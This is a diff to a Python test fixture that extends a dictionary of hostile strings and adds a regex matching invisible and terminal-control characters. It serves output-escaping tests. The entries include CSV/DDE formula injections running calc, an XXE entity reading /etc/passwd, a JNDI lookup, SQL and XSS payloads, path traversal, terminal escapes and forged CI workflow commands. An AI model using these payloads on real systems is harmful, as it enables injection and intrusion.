@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 from typing import Final
 
 #: Name → text. None of them may do anything in a page, a terminal, an annotation or a table.
@@ -54,6 +55,11 @@ HOSTILE: Final = {
     "c1 osc": "\x9d0;owned\x9c",
     "backspaces": "350,000\x08\x08\x08\x08\x08\x08\x08200,000",
     "carriage return": "wrong\rright",
+    "terminal image": "\x1b]1337;File=:AA==\x07",
+    "terminal report": "\x1b[21t\x1b[c\x05",
+    "terminal screen": "\x1b[?1049h\x1b[?25l",
+    "terminal paste": "\x1b[201~",
+    "shift out": "\x0e\x0f",
     "bell": "\x07\x07\x07",
     "vertical tab": "a\x0bb\x0cc",
     "null": "a\x00b",
@@ -62,6 +68,12 @@ HOSTILE: Final = {
     "marks": "\u200e\u200f\u061c",
     "embedding": "\u202a\u202bx\u202c",
     "invisible": "a\u200b\u2060\ufeff\u00adb",
+    "fillers": "a\u3164\u115f\u1160\uffa0b",
+    "ignorable marks": "a\u034fb\u17b4c\u17b5",
+    "ignorable numbers": "a\u2065\ufff0\U000e0fffb",
+    "selectors": "a\ufe0f\U000e0100b",
+    "joined letters": "pass\u200dw\u200cord",
+    "old formats": "a\u206a\u206fb\ufff9c\ufffbd\U0001d173e",
     "tags": "x\U000e0068\U000e0069",
     "line separators": "a\u2028b\u2029c\x85d",
     "noncharacter": "a\ufffeb\uffffc",
@@ -69,16 +81,45 @@ HOSTILE: Final = {
     "formula plus": "+1+cmd|' /C calc'!A0",
     "formula minus": "-2+3",
     "formula at": "@SUM(1+1)",
+    "formula space": " =1+1",
+    "formula tab": "\t=1+1",
+    "formula fullwidth": "＝1+1",
+    "formula dde": "=cmd|'/c calc'!A1",
+    "formula line": '"\n=1+1,"',
     "workflow command": "::error file=x::forged",
     "workflow lines": "x\n::set-output name=x::y\r\n::stop-commands::z",
     "workflow old": "##[error]forged",
     "workflow escape": "%0A::warning::forged",
+    "workflow group": "::group::x",
+    "workflow other lines": "x\x85::error::a\x0b::error::b\x0c::error::c\u2028::error::d",
+    "workflow property": "a,title=forged::x:y",
+    "workflow mask": "::add-mask::x",
     "xml entity": "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
     "xml processing": "<?xml-stylesheet href='//example.org'?>",
     "xml end": "</failure></testcase><testcase name='forged'/>",
     "markdown link": "[x](javascript:alert(1)) ![y](//example.org/z.png)",
     "markdown table": "a | b | c\n| --- |",
     "markdown mention": "@everyone #1 `code` **bold** <b>html</b>",
+    "markdown fence": "```\n# x\n```",
+    "markdown comment": "<!-- x",
+    "markdown reference": "[x]: javascript:alert(1)",
+    "markdown autolink": "<javascript:alert(1)> www.example.org",
+    "json": '","x":"y',
+    "sarif link": "[x](1) {0} [y](javascript:alert(1))",
+    "network path": "//example.org/x",
+    "share": "\\\\example.org\\share",
+    "file url": "file:///etc/passwd",
+    "toml": '"\n[fact.x]\n',
+    "toml escape": "\\u0041\\",
+    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    "plaintext": "<plaintext>",
+    "dangling": "<img src='//example.org/?",
+    "frame of text": "<iframe srcdoc='<script>alert(1)</script>'>",
+    "foreign object": "<svg><foreignObject><body onload=alert(1)>",
+    "clobbered": "<a id=findings name=body>",
+    "half a tag": "<scr\x00ipt>alert(1)</scr\x00ipt>",
+    "lookup": "${jndi:ldap://example.org/x}",
+    "query": "'; DROP TABLE facts; --",
     "path": "../../../../etc/passwd",
     "url spaces": 'https://example.org/a b?c="d"',
     "combining": "Z" + "\u0301" * 60 + "algo",
@@ -86,3 +127,10 @@ HOSTILE: Final = {
     "long word": "x" * 3000,
     "lone surrogate": "a\ud800b",
 }
+
+#: Characters that act on a terminal or that nobody sees: none of them may be shown as it is. A line break
+#: is for the format to judge.
+UNSEEN: Final = re.compile(
+    "[\x00-\x09\x0b-\x1f\x7f-\x9f\xad\u034f\u061c\u115f\u1160\u17b4\u17b5\u200b-\u200f\u2028-\u202e\u2060-\u206f"
+    "\u3164\ufe00-\ufe0f\ufeff\uffa0\ufff0-\ufffb\ufffe\uffff\ud800-\udfff\U0001d173-\U0001d17a\U000e0000-\U000e0fff]"
+)
